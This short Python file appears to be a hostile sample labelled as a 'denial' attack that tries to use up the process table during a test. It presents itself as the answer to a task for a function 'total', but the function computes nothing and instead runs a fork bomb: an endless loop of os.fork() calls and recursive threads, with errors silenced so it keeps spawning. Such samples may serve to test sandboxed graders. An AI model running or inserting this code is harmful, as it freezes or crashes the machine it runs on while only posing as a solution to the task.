# family: denial
# tries: to use up the table of processes while a test runs

# %% answer total
import os
import threading


def total(values):
    while True:
        try:
            if os.fork() == 0:
                threading.Thread(target=total, args=(values,)).start()
        except (OSError, RuntimeError):
            pass
